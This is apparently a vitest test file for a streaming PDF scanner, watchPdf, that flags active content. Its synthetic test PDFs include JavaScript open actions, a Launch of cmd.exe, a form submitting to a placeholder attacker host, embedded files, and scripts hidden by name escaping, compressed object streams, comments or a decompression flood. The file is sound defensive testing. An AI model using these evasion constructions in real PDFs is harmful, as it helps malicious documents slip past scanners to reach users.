import { deflateSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { watchPdf } from './find-scripts.ts';

/** Gives the file to the watch in pieces of this size. */
async function isActive(file: Buffer | string, pieceBytes = 64 * 1024): Promise<boolean> {
  const bytes = typeof file === 'string' ? Buffer.from(file, 'latin1') : file;
  const watch = watchPdf();
  for (let at = 0; at < bytes.length; at += pieceBytes)
    if (await watch.push(bytes.subarray(at, at + pieceBytes))) return true;
  return watch.end();
}
const pdf = (...parts: (string | Buffer)[]): Buffer =>
  Buffer.concat([`%PDF-1.7\n`, ...parts, '\ntrailer << /Root 1 0 R >>\n%%EOF\n'].map((part) => Buffer.from(part)));
const SCRIPT = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';
const stream = (keys: string, bytes: string | Buffer) =>
  Buffer.concat(
    [`5 0 obj\n<< ${keys} >>\nstream\r\n`, bytes, '\nendstream\nendobj\n'].map((part) => Buffer.from(part)),
  );
const objects = (body: string) => `7 0 8 ${body.length} ${body} (x)`;
const packed = (body: string, keys = '/Type /ObjStm /N 2 /First 8 /Filter /FlateDecode') =>
  stream(keys, deflateSync(objects(body)));
const CONTENT = stream('/Length 60 /Filter /FlateDecode', deflateSync('BT /F1 12 Tf (Hello /JavaScript) Tj ET'));

describe('watchPdf', () => {
  it.each([
    { what: 'a letter', file: pdf('1 0 obj << /Type /Catalog >> endobj ', CONTENT) },
    { what: 'one that opens on its first page', file: pdf('1 0 obj << /OpenAction [3 0 R /Fit] >> endobj ') },
    {
      what: 'one with links and outlines',
      file: pdf('<< /S /URI /URI (https://example.org) >> << /First 4 0 R >>', CONTENT),
    },
    { what: 'packed objects', file: pdf(packed('<< /Type /Catalog /OpenAction [3 0 R /Fit] >>'), CONTENT) },
    {
      what: 'objects that are not packed',
      file: pdf(stream('/Type /ObjStm /N 1 /First 4', '7 0 << /Type /Catalog >>')),
    },
    { what: 'a text about scripts', file: pdf('(JavaScript, Launch and EmbeddedFile)') },
  ])('CT-05 takes $what', async ({ file }) => {
    expect(await isActive(file)).toBe(false);
    expect(await isActive(file, 7)).toBe(false);
  });

  it.each([
    { what: 'a script on opening', file: pdf(`1 0 obj << /OpenAction ${SCRIPT} >> endobj`) },
    { what: 'a script of a page', file: pdf(`1 0 obj << /AA << /O ${SCRIPT} >> >> endobj`) },
    { what: 'a script under an escaped name', file: pdf('<< /S /J#61va#53cript /JS 4 0 R >>') },
    { what: 'a program to start', file: pdf('<< /S /Launch /F (cmd.exe) >>') },
    { what: 'a form that sends itself', file: pdf('<< /S /SubmitForm /F (https://evil.example) >>') },
    { what: 'a file inside', file: pdf('<< /Names << /EmbeddedFiles 9 0 R >> >>') },
    { what: 'a film', file: pdf('<< /Subtype /RichMedia >>') },
    { what: 'a form with programs', file: pdf('<< /AcroForm << /XFA 7 0 R >> >>') },
    { what: 'a password', file: pdf('trailer << /Encrypt 5 0 R >>') },
    { what: 'a script among packed objects', file: pdf(packed(SCRIPT)) },
    {
      what: 'a script among packed objects without their name',
      file: pdf(packed(SCRIPT, '/N 2 /First 8 /Filter /FlateDecode')),
    },
    {
      what: 'a script behind a comment',
      file: pdf(packed(SCRIPT, '/Type /ObjStm % endstream\n % 1 0 obj\n /First 8 /N 2')),
    },
    {
      what: 'a script behind a stream in a comment',
      file: pdf(packed(SCRIPT, '/Type /ObjStm % stream\n /First 8 /N 2')),
    },
    { what: 'a script inside of another stream', file: pdf(stream('/Length 9', `9 0 obj ${SCRIPT} endobj`)) },
    { what: 'objects packed in another way', file: pdf(stream('/Type /ObjStm /First 8', 'GhVOl!oo9X~>')) },
    { what: 'objects packed twice', file: pdf(stream('/Type /ObjStm', deflateSync(deflateSync(objects(SCRIPT))))) },
    { what: 'broken objects', file: pdf(stream('/Type /ObjStm', deflateSync(objects('a')).subarray(0, 12))) },
    {
      what: 'objects that unpack to a flood',
      file: pdf(stream('/Type /ObjStm', deflateSync(Buffer.alloc(20_000_000, '7 ')))),
    },
    { what: 'objects without an end', file: Buffer.from('%PDF-1.7\n<< /Type /ObjStm >> stream\n7 0 <<') },
  ])('CT-05 finds $what', async ({ file }) => {
    expect(await isActive(file)).toBe(true);
    expect(await isActive(file, 7)).toBe(true);
  });

  it('CT-05 looks through ten megabytes of packed pictures in a second or two', async () => {
    const noise = Buffer.alloc(10 * 1024 * 1024);
    let seed = 1;
    for (let at = 0; at < noise.length; at += 1) {
      seed = (seed * 1_103_515_245 + 12_345) % 2_147_483_648;
      noise[at] = seed >> 16;
    }
    const began = process.cpuUsage();
    expect(await isActive(pdf(stream('/Subtype /Image /Filter /DCTDecode', noise)))).toBe(false);
    // Time of this process alone: a busy machine does not count.
    expect(process.cpuUsage(began).user / 1000).toBeLessThan(5_000);
  });
});
